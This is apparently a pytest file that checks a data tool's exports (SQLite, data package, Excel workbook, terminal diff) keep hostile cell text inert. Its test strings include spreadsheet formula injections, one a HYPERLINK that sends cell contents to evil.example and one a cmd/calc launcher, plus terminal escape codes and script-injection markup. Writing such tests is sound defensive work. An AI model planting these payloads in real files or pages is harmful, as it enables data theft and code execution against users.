"""Hostile text in tables and lists stays text: in workbooks, CSV, databases and on a terminal."""

import csv
import json
import sqlite3

import openpyxl
import pytest
from conftest import TOY

from corridors.text import escape_controls, holds_formula

pytestmark = [pytest.mark.fault]

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Alpha")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)",
    "＝1+1",
    "x;=1+1",
)
ORDERS = ("\x1b[2J\x1b]0;owned\x07", "\u202edellac\u2069", "\u2066\u200f", "\x9b31m", "a\x7fb")
MARKUP = ("<img src=x onerror=ran=1>", "javascript:alert(1)", "</script><script>ran=1</script>")
TEXTS = (*FORMULAS, *ORDERS, *MARKUP)


def rows_of(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def hostile(folder):
    """Put a hostile text into the notes, names and titles of a network; return those it takes."""
    put = {}
    for table, columns in {
        "places": ("name_en", "name_ru", "name_zh"),
        "corridors": ("name_en", "note"),
        "sources": ("title", "publisher"),
        "facts": ("note", "locator"),
        "links": ("name", "note"),
        "modes": ("name_en",),
    }.items():
        path = folder / f"{table}.csv"
        rows = rows_of(path)
        texts = [it for it in TEXTS if it not in ORDERS]
        for at, row in enumerate(rows):
            for shift, column in enumerate(columns):
                if row[column] or column in ("note", "name"):
                    text = f"{texts[(at + shift) % len(texts)]} {row[column]}{at}"
                    row[column] = text.strip()
                    put.setdefault(f"{table}.{column}", set()).add(row[column])
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    return put


@pytest.fixture
def spoiled(toy_copy):
    return toy_copy, hostile(toy_copy)


def test_a_database_holds_texts_word_for_word(run, spoiled, tmp_path):
    tables, put = spoiled
    assert run("export", tmp_path / "out.db", "--data", tables).code == 0
    with sqlite3.connect(tmp_path / "out.db") as database:
        for where, texts in put.items():
            table, column = where.split(".")
            if table == "facts":
                said = "SELECT note FROM numbers UNION SELECT locator FROM numbers"
            else:
                said = f'SELECT "{column}" FROM {table}'  # noqa: S608 - our own names
            if column != "locator":
                found = {it for (it,) in database.execute(said)}
                assert len(found & texts) >= len(texts) // 2, where
    database.close()
    told = json.loads((tmp_path / "out.metadata.json").read_text(encoding="utf-8"))
    # Datasette shows these two keys as HTML.
    assert "<img" not in json.dumps(list(strings(told, "description_html")))


def strings(value, key):
    if isinstance(value, dict):
        if key in value:
            yield value[key]
        for it in value.values():
            yield from strings(it, key)
    elif isinstance(value, list):
        for it in value:
            yield from strings(it, key)


def test_a_data_package_holds_texts_word_for_word_and_is_read_again(run, spoiled, tmp_path):
    tables, put = spoiled
    package = tmp_path / "package"
    words = ("export", "--format", "datapackage", package, "--data", tables)
    assert run(*words).code == 0
    assert {it["name_en"] for it in rows_of(package / "places.csv")} == put["places.name_en"]
    json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    result = run("diff", tables, package, "--facts-only", "--format", "json")
    assert result.code == 0, result.err
    assert not any(it in result.out for it in ("\x1b", "\u202e"))
    for kind in ("table", "csv"):
        assert run("diff", TOY, tables, "--facts-only", "--format", kind).code == 0


LIST_HEADER = ["reference", "origin", "destination", "cargo", "count", *TEXTS]


@pytest.fixture
def shipments(tmp_path):
    """A list whose own columns and references are hostile, formulas first."""
    path = tmp_path / "list.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(LIST_HEADER)
        for at, text in enumerate(TEXTS):
            own = [TEXTS[(at + shift) % len(TEXTS)] for shift in range(len(TEXTS))]
            writer.writerow([text, "alpha", "golf", "teu", 1, *own])
        for text in TEXTS:
            writer.writerow(["R", text, text, text, text, *[""] * len(TEXTS)])
    return path


def test_a_workbook_of_a_list_calculates_nothing(toy_run, shipments, tmp_path):
    out = tmp_path / "out.xlsx"
    result = toy_run("batch", shipments, "--depart", "edition", "--output", out)
    assert result.code in (0, 1), result.err
    assert "Traceback" not in result.err
    book = openpyxl.load_workbook(out)
    said = set()
    for sheet in book:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", cell.value
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    said.add(cell.value)
                    assert escape_controls(cell.value) == cell.value
                    assert cell.quotePrefix or not holds_formula(cell.value), cell.value
    # As header, as reference, and as what can't be read.
    assert {escape_controls(it) for it in TEXTS} - said <= {"a\\x7fb"}


def test_a_workbook_of_a_comparison_calculates_nothing(run, spoiled, tmp_path):
    tables, _ = spoiled
    out = tmp_path / "out.xlsx"
    words = ("compare", "alpha", "golf", "--depart", "edition", "--format", "xlsx", "--output", out)
    assert run(*words, "--data", tables).code == 0
    cells = [
        cell for sheet in openpyxl.load_workbook(out) for line in sheet.iter_rows() for cell in line
    ]
    assert len(cells) > 50
    assert [it.value for it in cells if it.data_type == "f" or it.hyperlink] == []
    assert [it.value for it in cells if holds_formula(str(it.value)) and not it.quotePrefix] == []
